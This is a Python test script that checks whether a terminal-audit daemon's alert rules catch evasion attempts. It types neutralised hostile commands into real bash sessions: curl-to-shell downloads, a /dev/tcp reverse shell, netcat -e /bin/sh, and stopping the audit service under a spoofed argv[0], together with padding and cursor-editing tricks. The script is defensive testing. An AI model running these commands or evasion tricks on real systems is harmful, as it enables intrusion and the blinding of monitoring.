#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Ways around the shipped alert rules, tried with the real ttyauditd and bash
on real ptys, each in a login session of its own (loginuid written, as
pam_loginuid does):

- rate limits per person: one user runs a copy of /bin/true named sudo twelve
  times; a second user's su right after is still an alert, and the first
  user's suppressed hits come back as a summary that names them;
- typed lines as bash ran them: a command continued on the next line, edited
  with the cursor (Left), padded with 1100 spaces, or padded past the line
  cap on both sides (an alert of its own, ttyaudit-line-cut);
- unless applied to what the line pattern matched: a trailing comment naming
  localhost or 127.0.0.1 excuses nothing;
- audit-stopped by the executed file: argv[0] set with exec -a, the unit given
  as a pattern.

Every typed command is harmless (`false &&`, `systemctl --version`).

usage: evasion_test.py RULES_CONF   (TA_BUILD_DIR set; root)"""

import os
import pty
import select
import shutil
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from capturelib import Daemon, Failures  # noqa: E402
from auditdlib import wait_until  # noqa: E402

ENV = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "xterm"}


def skip(why):
    print(f"SKIPPED: {why}")
    sys.exit(77)


class Shell:
    """bash -i on a new pty, in a login session of login uid auid; its output is
    read all along, so a long echoed line never blocks the typing."""

    def __init__(self, auid, home):
        self.out = b""
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.execvpe("sh", ["sh", "-c", f"echo {auid} > /proc/self/loginuid || exit 1; "
                              "exec bash --norc --noprofile -i"], {**ENV, "HOME": home})
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        time.sleep(0.8)

    def _read(self):
        while True:
            r, _, _ = select.select([self.fd], [], [], 0.2)
            if r:
                try:
                    chunk = os.read(self.fd, 65536)
                except OSError:
                    return
                if not chunk:
                    return
                self.out += chunk

    def type(self, data, settle=0.3):
        for i in range(0, len(data), 512):
            os.write(self.fd, data[i:i + 512])
        time.sleep(settle)

    def close(self):
        self.type(b"exit\r", 0.5)
        for _ in range(50):
            if os.waitpid(self.pid, os.WNOHANG)[0]:
                break
            time.sleep(0.1)
        else:
            os.kill(self.pid, 9)
            os.waitpid(self.pid, 0)
        self.reader.join(2)
        os.close(self.fd)


def alerts(d, **match):
    return [r for r in d.records(quiet=True) if r.get("type") == "alert" and
            all(r.get(k) == v for k, v in match.items())]


def main():
    if os.geteuid() != 0:
        skip("needs root (BPF, loginuid)")
    try:
        with open("/proc/self/loginuid") as fh:
            fh.read()
    except OSError:
        skip("no /proc/self/loginuid (kernel without audit)")
    for tool in ("bash", "su", "systemctl"):
        if not shutil.which(tool):
            skip(f"{tool} is not installed")
    f = Failures("alerts-evasion")
    t = tempfile.mkdtemp(prefix=f"ta-evasion-{os.getpid()}-")
    os.chmod(t, 0o755)
    rules = os.path.join(t, "rules.conf")
    shutil.copy(sys.argv[1], rules)
    os.chmod(rules, 0o644)
    fake_sudo = os.path.join(t, "sudo")
    shutil.copy("/bin/true", fake_sudo)
    base = 42000 + (os.getpid() % 1000) * 4
    u1, u2, u3 = base, base + 1, base + 2
    d = Daemon("--rules-file", rules)
    try:
        d.start()

        # A: one user's flood does not spend another's tokens.
        s1 = Shell(u1, t)
        for _ in range(12):
            s1.type(f"{fake_sudo}\r".encode(), 0.1)
        s2 = Shell(u2, t)
        s2.type(b"su root -c true\r", 1.0)
        f.check(wait_until(lambda: len(alerts(d, rule="privilege-escalation", auid=u1)) >= 10, 30),
                "ten alerts for the first user's fake sudo")
        f.check(wait_until(lambda: alerts(d, rule="privilege-escalation", auid=u2), 30),
                "the second user's su right after is an alert of theirs")
        f.check(len([a for a in alerts(d, rule="privilege-escalation", auid=u1)
                     if not a.get("rate_limit_lifted")]) == 10,
                "the first user's hits past the burst are suppressed")
        # one token back after 6 s: the summary names the first user and their hit
        f.check(wait_until(lambda: any(a.get("rate_limit_lifted") and a.get("suppressed") == 2 and
                                       fake_sudo in a.get("subject", "")
                                       for a in alerts(d, rule="privilege-escalation", auid=u1)),
                           30),
                "the rate_limit_lifted summary names the user, count and first subject "
                f"({[a for a in alerts(d) if a.get('rate_limit_lifted')]})")
        s1.close()
        s2.close()

        # B and C: typed lines as bash ran them, unless on the match, audit-stopped.
        s3 = Shell(u3, t)
        # bash itself runs the cursor-edited line: it prints what `| sh` ran
        s3.type(b"echo 'echo CURSOR-''EDITED-OK' | h\x1b[Ds\r")
        s3.type(b"false && curl http://192.0.2.2/b |\r", 0.5)
        s3.type(b"bash\r")
        s3.type(b"false && curl http://192.0.2.3/c | h\x1b[Ds\r")
        s3.type(b" " * 1100 + b"false && curl http://192.0.2.4/d | bash\r")
        s3.type(b"false && : " + b"A" * 3000 + b"; curl " + b"B" * 3000 + b" | bash\r", 1.0)
        s3.type(b"false && bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # /dev/tcp/localhost/\r")
        s3.type(b"false && nc -e /bin/sh 192.0.2.1 4444 # 127.0.0.1\r")
        s3.type(b"(exec -a foo systemctl --version stop 'ttyaudit*') > /dev/null\r", 1.0)
        s3.close()
        f.check(b"CURSOR-EDITED-OK" in s3.out, "bash ran the line edited with Left as '| sh'")

        def subjects(rule):
            return [a.get("subject", "") for a in alerts(d, rule=rule, auid=u3)]
        wait_until(lambda: subjects("audit-stopped"), 30)
        dl = subjects("download-to-shell")
        f.check("false && curl http://192.0.2.2/b | bash" in dl,
                f"a pipe continued on the next line is matched joined ({dl})")
        f.check("false && curl http://192.0.2.3/c | sh" in dl,
                f"the line edited with Left is matched as bash ran it ({dl})")
        f.check("false && curl http://192.0.2.4/d | bash" in [x.strip() for x in dl],
                f"1100 spaces of padding do not hide the command ({dl})")
        cut = alerts(d, rule="ttyaudit-line-cut", auid=u3)
        f.check(len(cut) == 1 and cut[0].get("subject_cut"),
                f"a line padded past the cap on both sides is an alert of its own ({cut})")
        f.check(subjects("reverse-shell-dev-tcp"),
                "a comment naming /dev/tcp/localhost excuses no reverse shell")
        f.check(subjects("reverse-shell-netcat"),
                "a comment naming 127.0.0.1 excuses no netcat")
        f.check(any("stop ttyaudit*" in x for x in subjects("audit-stopped")),
                f"exec -a and a unit pattern still stop the watchers ({subjects('audit-stopped')})")
        d.stop()
    finally:
        if d.proc and d.proc.poll() is None:
            d.proc.kill()
            d.proc.wait()
        if f.failed:
            print("--- ttyauditd\n" + d.stderr()[-3000:])
        shutil.rmtree(t, ignore_errors=True)
    return f.result()


if __name__ == "__main__":
    sys.exit(main())
